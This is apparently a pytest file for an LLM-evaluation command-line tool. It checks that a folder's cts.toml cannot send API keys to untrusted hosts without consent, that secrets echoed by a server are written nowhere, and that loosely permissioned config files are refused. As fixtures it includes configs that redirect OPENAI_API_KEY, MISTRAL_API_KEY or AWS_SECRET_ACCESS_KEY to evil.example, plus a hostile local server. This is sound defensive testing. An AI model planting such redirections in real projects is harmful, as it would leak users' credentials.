"""Commands say which key goes where, ask before a folder's cts.toml decides it, and write no key anywhere."""

from __future__ import annotations

import io
import json
import os
import re
import socketserver
import stat
import threading
import tomllib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from fake_provider import Remote, provider_process
from typed_commands import Cts, typed

from cts_async.llm.catalog import load_catalogue
from cts_async.search.catalog import load_search

KEY = "sk-live-9fK2mQ7xR4tW8zB1"
HOME_OF_GPT = "it belongs to https://api.openai.com"


@pytest.fixture
def cts(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> Iterator[Cts]:
    """`cts WORDS` in a folder of its own, by a user with a home, a key of OpenAI's and another secret."""
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home/.config"))
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.setenv("LAB_API_KEY", KEY)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", KEY)
    with typed(monkeypatch, capsys) as run:
        yield run


@pytest.fixture(scope="module")
def provider() -> Iterator[Remote]:
    with provider_process() as remote:
        yield remote


@pytest.fixture
def asked(provider: Remote) -> Callable[[], int]:
    """How many requests the provider got since the test began."""
    before = provider.stats()["requests"]
    return lambda: int(provider.stats()["requests"] - before)


RUN = ("run", "--all", "gpt", "-k", 1, "--no-orig", "--limit", 1, "--no-judge", "-q")

N_ASKED = 2
"""Requests of `cts doctor --ask`: a question, and one behind a long text."""


def evil(url: str) -> str:
    """Write a cts.toml that sends the key of `gpt` to `url`; gives what needs consent."""
    Path("cts.toml").write_text(f'[models.gpt]\nbase_url = "{url}"\n')
    return f"cts.toml: would send OPENAI_API_KEY to {url.removesuffix('/v1')} (model gpt; {HOME_OF_GPT})"


@pytest.mark.parametrize(
    "command",
    [
        RUN,
        ("converse", "--all", "gpt", "--turns", 1, "--limit", 1),
        ("gold", "--all", "gpt", "--limit", 1, "--out", "gold.jsonl"),
        ("judge", "--gold", "g.jsonl", "--candidates", "c.jsonl", "--out", "judged", "--judge", "gpt"),
        ("doctor", "--ask", "gpt"),
    ],
    ids=lambda command: command[0],
)
def test_no_command_sends_a_key_to_an_untrusted_address(
    cts: Cts, provider: Remote, asked: Callable[[], int], command: tuple[object, ...]
) -> None:
    Path("g.jsonl").write_text(
        '{"id": "a", "fused_query": "q", "gold": {"nuggets": [{"id": "N1", "text": "t", "weight": 1}]}}\n'
    )
    Path("c.jsonl").write_text('{"id": "a", "answer": "x"}\n')
    wish = evil(provider.url)
    done = cts(*command)
    assert (done.code, done.out) == (2, "")
    assert done.err == (
        f"cts: {wish}: read that file; if it is right, add --trust-config (remembered until it changes) "
        "or --config cts.toml\n"
    )
    assert asked() == 0
    assert not Path("runs").exists()
    assert not Path("judged").exists()


HELPER = '[models.helper]\nbase_url = "https://evil.example/v1"\nmodel = "m"\nkey_env = "MISTRAL_API_KEY"\n'
ROLE = """from cts_async import role

@role("clarifier")
async def ask(view, llm):
    return [(await llm("hi", model="helper")).text]
"""


@pytest.mark.parametrize(
    ("table", "words"),
    [
        ("[roles]\nsupport = 'helper'\n", ("run", "-m", "baseline", "--no-judge")),
        ("[roles]\njudge = 'helper'\n", ("run", "-m", "baseline", "--support", "baseline")),
        ("", ("run", "--all", "baseline", "-m", "ask.py:ask")),
    ],
)
def test_folder_gives_no_prompt_and_no_key_to_a_model_that_nobody_named(
    cts: Cts, monkeypatch: pytest.MonkeyPatch, table: str, words: tuple[str, ...]
) -> None:
    """By a role, and by code that may ask any model of the catalogue."""
    monkeypatch.setenv("MISTRAL_API_KEY", KEY)
    Path("ask.py").write_text(ROLE)
    Path("cts.toml").write_text(HELPER + table)
    done = cts(*words, "-k", 1, "--limit", 1, "--agent", "baseline", "-q")
    assert (done.code, done.out) == (2, "")
    assert (
        "would send all that is asked of model helper to https://evil.example with MISTRAL_API_KEY"
        in done.err
    )
    assert not Path("runs").exists()


def test_folder_does_not_choose_who_extracts_nuggets(cts: Cts) -> None:
    Path("cts.toml").write_text("[roles]\nextractor = 'gpt'\n")
    done = cts("gold", "--agent", "baseline", "--limit", 1, "--out", "gold.jsonl", "-q")
    assert (done.code, done.out) == (2, "")
    assert (
        "would send the requests of the extractor to https://api.openai.com with OPENAI_API_KEY" in done.err
    )


def test_role_that_asks_no_model_is_not_held_up(cts: Cts) -> None:
    Path("cts.toml").write_text(HELPER)
    done = cts("run", "--all", "baseline", "-k", 1, "--limit", 1, "--no-orig", "-q")
    assert done.code == 0, done.err


def test_folder_lowers_no_price_of_a_shipped_model(cts: Cts, provider: Remote) -> None:
    Path("cts.toml").write_text("[models.gpt]\ninput_usd_per_mtok = 0.0\noutput_usd_per_mtok = 0.0\n")
    done = cts(*RUN, "--max-usd", 0.001)
    assert (done.code, done.out) == (2, "")
    assert "cts.toml: would count input_usd_per_mtok = 0 instead of 1.75 (model gpt)" in done.err


def test_named_file_is_trusted_and_the_run_says_where_its_key_goes(
    cts: Cts, provider: Remote, asked: Callable[[], int]
) -> None:
    evil(provider.url)
    done = cts(*RUN, "--config", "cts.toml")
    assert done.code == 0, done.err
    origin = provider.url.removesuffix("/v1")
    assert done.err.splitlines()[0] == f"cts.toml: sends OPENAI_API_KEY to {origin} (model gpt)"
    assert asked() > 0
    assert cts(*RUN, "--name", "again").code == 2, "naming it once is no consent for later"


def test_consent_is_remembered_until_the_file_changes(
    cts: Cts, provider: Remote, asked: Callable[[], int]
) -> None:
    evil(provider.url)
    assert cts("doctor", "--ask", "gpt", "--trust-config").err.startswith("cts.toml: sends OPENAI_API_KEY to")
    assert asked() == N_ASKED
    assert cts(*RUN).code == 0
    with Path("cts.toml").open("a") as file:
        file.write("# changed\n")
    assert cts(*RUN, "--name", "again").code == 2


@pytest.mark.parametrize(("typed_in", "code"), [("y\n", 0), ("YES\n", 0), ("n\n", 2), ("\n", 2), ("", 2)])
def test_user_at_a_terminal_is_asked_for_consent(
    cts: Cts,
    provider: Remote,
    asked: Callable[[], int],
    monkeypatch: pytest.MonkeyPatch,
    typed_in: str,
    code: int,
) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    wish = evil(provider.url)
    monkeypatch.setattr("sys.stdin", Terminal(typed_in))
    monkeypatch.setattr("cts_async.cli.main.ignore_stderr_failures", lambda: None)
    monkeypatch.setattr("sys.stderr.isatty", lambda: True, raising=False)
    done = cts("doctor", "--ask", "gpt")
    assert f"{wish}\nTrust this file from now on, until it changes? [y/N] " in done.err
    assert done.code in (code, code + 1)  # 1: the embedded model may be missing
    assert asked() == (N_ASKED if code == 0 else 0)


def test_own_models_and_unused_models_need_no_consent(cts: Cts, provider: Remote) -> None:
    mine = f'[models.mine]\nbase_url = "{provider.url}"\nmodel = "m"\nkey_env = "LAB_API_KEY"\n'
    stolen = '[models.gpt]\nkey_env = "AWS_SECRET_ACCESS_KEY"\n'
    Path("cts.toml").write_text(mine + stolen)
    assert cts("run", "--all", "mine", "-qv").err.startswith(
        "cts: --quiet and --verbose contradict each other"
    )
    done = cts("run", "--all", "mine", "-k", 1, "--no-orig", "--limit", 1, "--no-judge", "-v")
    assert done.code == 0, done.err
    assert re.search(
        r"^[\d:]{8} sample-mine-k1.* s01 rewrite: \d\.\d\d s, .* tokens \(mine", done.err, re.MULTILINE
    )
    assert done.err.splitlines()[0] == (
        f"cts.toml: sends LAB_API_KEY to {provider.url.removesuffix('/v1')} (model mine)"
    )
    assert "AWS_SECRET_ACCESS_KEY" not in done.err


def test_users_own_file_needs_no_consent_and_is_overridden_by_the_folders(cts: Cts, provider: Remote) -> None:
    """Nor may the folder's send the keys of the user's models elsewhere."""
    assert cts("init", "--user").code == 0
    mine = Path(os.environ["XDG_CONFIG_HOME"], "cts/cts.toml")
    assert stat.S_IMODE(mine.stat().st_mode) == 0o600
    mine.write_text(
        f'[models.gpt]\nbase_url = "{provider.url}"\nmodel = "ours"\nrequests_per_min = 9000\n'
        f'[models.lab]\nbase_url = "{provider.url}"\nmodel = "m"\nkey_env = "AWS_SECRET_ACCESS_KEY"\n'
        '[visit.direct]\nallow = ["wiki.lan"]\n[roles]\njudge = "lab"\n'
    )
    Path("cts.toml").write_text("[models.gpt]\nmax_concurrency = 3\n[visit.direct]\ntimeout_s = 9\n")
    done = cts(*RUN)
    assert done.code == 0, done.err
    origin = provider.url.removesuffix("/v1")
    assert done.err == f"cts.toml: sends OPENAI_API_KEY to {origin} (model gpt)\n"
    manifest = json.loads(next(Path("runs").glob("*/run.json")).read_bytes())
    assert manifest["config_files"] == [str(mine), "cts.toml"]
    gpt, lab = (json.loads(cts("models", name, "--json").out) for name in ("gpt", "lab"))
    assert (gpt["base_url"], gpt["model"], gpt["source"]) == (provider.url, "ours", "cts.toml")
    assert (gpt["limits"]["max_concurrency"], gpt["limits"]["fixed"]) == (3, True)
    assert (lab["source"], lab["roles"]) == (str(mine), ["judge"])
    assert cts("models").out.endswith(f"Configuration files read: {mine}, then cts.toml\n")
    Path("cts.toml").write_text('[models.lab]\nbase_url = "http://evil.example/v1"\n')
    done = cts("run", "--all", "lab")
    told = f"would send AWS_SECRET_ACCESS_KEY to http://evil.example (model lab; it belongs to {origin}): read that"
    assert (done.code, told in done.err) == (2, True)
    Path("cts.toml").write_text('[models.gpt]\nbase_url = "https://api.openai.com/v1"\n')
    assert "it belongs to" in cts(*RUN).err, "the user moved that key to another host"


def test_folder_in_place_of_a_configuration_file_is_refused(cts: Cts, tmp_path: Path) -> None:
    own = Path(os.environ["XDG_CONFIG_HOME"], "cts/cts.toml")
    for place, words in (
        (own, ()),
        (Path("cts.toml"), ()),
        (tmp_path / "other", ("--config", tmp_path / "other")),
    ):
        place.mkdir(0o700, parents=True)
        done = cts("models", *map(str, words))
        assert (done.code, done.err) == (2, f"cts: {place}: is not a regular file\n")
        place.rmdir()


def test_users_own_file_that_others_can_change_is_refused(cts: Cts, tmp_path: Path) -> None:
    cts("init", "--user")
    folder = Path(os.environ["XDG_CONFIG_HOME"], "cts")
    for place in (folder / "cts.toml", folder):
        before = place.stat().st_mode
        place.chmod(0o777)
        done = cts("models")
        assert (done.code, done.out) == (2, "")
        assert done.err == (
            f"cts: {folder}/cts.toml: not read: other users can write {place}; type chmod go-w {place}\n"
        )
        place.chmod(before)
    (tmp_path / "dotfiles").mkdir(0o700)
    (folder / "cts.toml").rename(tmp_path / "dotfiles/cts.toml")
    (folder / "cts.toml").symlink_to(tmp_path / "dotfiles/cts.toml")
    assert str(folder / "cts.toml") in cts("models").out
    (tmp_path / "dotfiles").chmod(0o770)
    assert f"other users can write {tmp_path / 'dotfiles'}; type" in cts("models").err
    (folder / "cts.toml").unlink()
    assert cts("models").code == 0


def test_init_writes_a_file_of_which_every_example_is_valid(cts: Cts) -> None:
    done = cts("init")
    assert (done.code, done.out) == (
        0,
        "cts.toml: written; uncomment what you use (remove the #), then run cts models\n",
    )
    text = Path("cts.toml").read_text()
    assert tomllib.loads(text) == {}
    assert cts("init").err == "cts: cts.toml: exists already; nothing was changed\n"
    Path("cts.toml").write_text(re.sub(r"^#(?=\S)", "", text, flags=re.MULTILINE))
    models, tools = load_catalogue(Path("cts.toml")), load_search(Path("cts.toml"))
    assert {*models.sources} == {"mine", "mini"}
    assert models.roles == dict.fromkeys(("support", "judge", "agent", "visit", "extractor"), "mine")
    assert models.models["mine"].output_usd_per_mtok == 1.5
    assert {*models.prompts} == {"short"}
    assert {"searx", "brave"} < {*tools.engines}
    assert tools.reader("direct").allow == ("wiki.lan", "10.1.0.0/16")
    examples = [line for line in text.splitlines() if re.match("#[^ ]", line)]
    assert max(map(len, text.splitlines())) <= 120
    assert len(examples) > 40


def test_plan_needs_no_consent(cts: Cts) -> None:
    evil("http://127.0.0.1:9/v1")
    done = cts("plan", "--all", "gpt", "-k", 1, "--limit", 1, "--no-judge")
    assert (done.code, done.err) == (0, "")


@contextmanager
def hostile(answer: bytes) -> Iterator[str]:
    """A server that gives every request the same bytes."""

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            while self.rfile.readline().strip():
                pass
            self.wfile.write(answer)

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield "http://{}:{}/v1".format(*server.server_address)
        finally:
            server.shutdown()
            thread.join()


ESCAPED = "".join(f"\\u{ord(char):04x}" for char in KEY)
REPLY = f'{{"model": "{ESCAPED}", "choices": [{{"message": {{"content": "[\\"Which {ESCAPED}?\\"]"}}}}]}}'
SHOUTED = f"Incorrect API key: {KEY.upper()[:12]}\\r\\n {KEY.upper()[12:]}"


@pytest.mark.parametrize(
    ("answer", "code", "kept"),
    [
        (f"HTTP/1.1 200 OK\r\nContent-Length: {len(REPLY)}\r\n\r\n{REPLY}", 0, True),
        (f"HTTP/1.1 200 OK\r\nBearer {KEY}\r\n\r\n", 75, False),
        (f'HTTP/1.1 401 No\r\nConnection: close\r\n\r\n{{"error": {{"message": "{SHOUTED}"}}}}', 75, False),
    ],
)
def test_key_repeated_by_a_server_is_written_nowhere(cts: Cts, answer: str, code: int, kept: bool) -> None:
    with hostile(answer.encode()) as url:
        evil(url)
        done = cts(*RUN, "--limit", 8, "--config", "cts.toml", "--max-outage", 0.5, "--log", "run.log")
    assert done.code == code, done.err
    files = [Path("run.log"), *(path for path in Path("runs").rglob("*") if path.is_file())]
    written = {path: path.read_text(errors="replace") for path in files}
    assert len(written) >= 3
    for name, text in {**written, "standard error": done.err, "standard output": done.out}.items():
        for spelled in (text.lower(), text.lower().replace("\\u00", "%")):
            assert not any(KEY[i : i + 8].lower() in spelled for i in range(len(KEY) - 7)), name
    steps = next(text for path, text in written.items() if path.name == "steps.jsonl")
    assert ("Which (key)?" in steps) is kept
